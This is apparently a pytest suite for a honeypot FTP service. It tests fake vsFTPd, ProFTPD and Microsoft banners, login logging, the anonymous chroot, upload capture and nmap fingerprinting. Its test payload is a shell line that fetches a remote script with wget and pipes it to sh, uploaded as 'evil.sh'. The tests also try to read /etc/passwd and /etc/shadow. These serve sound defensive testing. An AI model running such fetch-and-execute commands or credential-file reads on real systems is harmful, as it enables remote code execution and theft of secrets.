"""The ftp service driven by ftplib: banners per product, logins, anonymous chroot, LIST/RETR/STOR over PASV."""

from __future__ import annotations

import asyncio
import ftplib
import hashlib
import io
from pathlib import Path

import pytest

from decnet.services.ftp import FTPService
from tests.decnet.services.smtp.support import nmap_service, persona, running, talk

PAYLOAD = b"#!/bin/sh\nwget http://203.0.113.9/x.sh -O- | sh\n" * 50


def _failed(port: int) -> tuple[str, str]:
    client = ftplib.FTP()
    welcome = client.connect("127.0.0.1", port, timeout=10)
    try:
        client.login("root", "toor")
    except ftplib.error_perm as exc:
        error = str(exc)
    client.close()
    return welcome, error


def _anonymous(port: int) -> dict[str, object]:
    client = ftplib.FTP()
    client.connect("127.0.0.1", port, timeout=10)
    out: dict[str, object] = {"login": client.login()}
    out["pwd"] = client.pwd()
    lines: list[str] = []
    client.retrlines("LIST", lines.append)
    out["list"] = lines
    client.cwd("pub")
    buf = io.BytesIO()
    client.retrbinary("RETR README", buf.write)
    out["readme"] = buf.getvalue()
    try:
        client.storbinary("STOR evil.sh", io.BytesIO(PAYLOAD))
    except ftplib.error_perm as exc:
        out["stor"] = str(exc)
    out["quit"] = client.quit()
    return out


def _user(port: int) -> dict[str, object]:
    client = ftplib.FTP()
    client.connect("127.0.0.1", port, timeout=10)
    out: dict[str, object] = {"login": client.login("alice", "s3cret")}
    out["syst"] = client.sendcmd("SYST")
    out["pwd"] = client.pwd()
    out["stor"] = client.storbinary("STOR x.sh", io.BytesIO(PAYLOAD))
    out["size"] = client.size("x.sh")
    out["nlst"] = client.nlst()
    buf = io.BytesIO()
    client.retrbinary("RETR /etc/passwd", buf.write)
    out["passwd"] = buf.getvalue()
    try:
        client.retrbinary("RETR /etc/shadow", buf.write)
    except ftplib.error_perm as exc:
        out["shadow"] = str(exc)
    out["quit"] = client.quit()
    return out


@pytest.mark.parametrize(
    ("kind", "server", "welcome", "error"),
    [
        ("ubuntu22", "auto", "220 (vsFTPd 3.0.5)", "530 Login incorrect."),
        ("debian", "proftpd", "220 ProFTPD 1.3.8 Server (Debian) [::ffff:127.0.0.1]", "530 Login incorrect."),
        ("windows", "auto", "220 Microsoft FTP Service", "530 User cannot log in."),
    ],
)
async def test_banner_and_failed_login_per_product(kind: str, server: str, welcome: str, error: str) -> None:
    async with running(FTPService, persona(kind), server=server, auth_fail_delay=0) as (_, port, events):
        got = await asyncio.to_thread(_failed, port)
        auth = (await events.wait("auth"))[0]
    assert got == (welcome, error)
    assert (auth.fields["username"], auth.fields["password"], auth.fields["result"]) == (
        "root",
        "toor",
        "failure",
    )
    assert auth.fields["secret_kind"] == "plaintext" and auth.fields["method"] == "password"


async def test_anonymous_is_chrooted_and_cannot_upload() -> None:
    async with running(FTPService, persona("debian"), anonymous=True) as (_, port, events):
        out = await asyncio.to_thread(_anonymous, port)
        await events.wait("disconnect")
    assert out["login"] == "230 Login successful." and out["pwd"] == "/"
    listing = out["list"]
    assert (
        isinstance(listing, list)
        and len(listing) == 1
        and listing[0].startswith("drwxr-xr-x    2 0        0 ")
    )
    assert listing[0].endswith(" pub")
    assert out["readme"] == b"mail01.corp.example public FTP archive.\nMirrors are updated nightly.\n"
    assert out["stor"] == "550 Permission denied."
    auth = events.of("auth")[0]
    assert auth.fields["method"] == "anonymous" and auth.fields["result"] == "success"
    assert [e.fields["result"] for e in events.of("stor")] == ["denied"]
    assert events.of("retr")[0].fields == {"path": "/pub/README", "result": "sent", "size": "69"}


async def test_user_uploads_are_captured(tmp_path: Path) -> None:
    async with running(FTPService, persona("ubuntu22"), state_dir=tmp_path, users="alice:s3cret") as (
        _,
        port,
        events,
    ):
        out = await asyncio.to_thread(_user, port)
        stor = (await events.wait("stor"))[0]
    assert out["login"] == "230 Login successful." and out["syst"] == "215 UNIX Type: L8"
    assert out["pwd"] == "/home/alice"
    assert out["stor"] == "226 Transfer complete." and out["size"] == len(PAYLOAD)
    assert "x.sh" in out["nlst"]  # type: ignore[operator]
    assert b"alice:x:1000:1000:" in out["passwd"]  # type: ignore[operator]
    assert out["shadow"] == "550 Failed to open file."
    sha = hashlib.sha256(PAYLOAD).hexdigest()
    assert stor.fields["sha256"] == sha and stor.fields["size"] == str(len(PAYLOAD))
    assert stor.fields["path"] == "/home/alice/x.sh" and stor.fields["result"] == "received"
    assert (tmp_path / "ftp-uploads" / f"{sha}.bin").read_bytes() == PAYLOAD
    verbs = [e.fields["verb"] for e in events.of("command")]
    assert verbs[:3] == ["USER", "SYST", "PWD"] and "PASS" not in verbs


async def test_errors_before_login_and_active_mode_refused() -> None:
    script = b"LIST\r\nPASS x\r\nFEAT\r\nUSER bob\r\nPASS a\r\nUSER bob\r\nPASS b\r\nUSER bob\r\nPASS c\r\nNOOP\r\n"
    async with running(FTPService, persona("ubuntu22"), auth_fail_delay=0) as (_, port, events):
        out = (await talk(port, script)).decode()
        await events.wait("disconnect")
    assert out.split("\r\n")[:4] == [
        "220 (vsFTPd 3.0.5)",
        "530 Please login with USER and PASS.",
        "503 Login with USER first.",
        "211-Features:",
    ]
    assert out.endswith("331 Please specify the password.\r\n530 Login incorrect.\r\n")
    assert events.of("disconnect")[0].fields["reason"] == "too_many_failures"
    async with running(FTPService, persona("ubuntu22"), users="u:p") as (_, port, events):
        out = (
            await talk(
                port, b"USER u\r\nPASS p\r\nPORT 10,0,0,9,4,1\r\nPORT 127,0,0,1,4,1\r\nLIST\r\nQUIT\r\n"
            )
        ).decode()
    assert "500 Illegal PORT command.\r\n200 PORT command successful. Consider using PASV.\r\n" in out
    assert out.endswith("425 Failed to establish connection.\r\n221 Goodbye.\r\n")


@pytest.mark.parametrize(
    ("kind", "server", "product"),
    [
        ("ubuntu22", "auto", "vsftpd 3.0.5"),
        ("debian", "proftpd", "ProFTPD 1.3.8"),
        ("windows", "auto", "Microsoft ftpd"),
    ],
)
async def test_nmap_identifies_the_product(kind: str, server: str, product: str) -> None:
    async with running(FTPService, persona(kind), server=server) as (_, port, _events):
        found = await nmap_service(port)
    assert product in found and "python" not in found.lower(), found
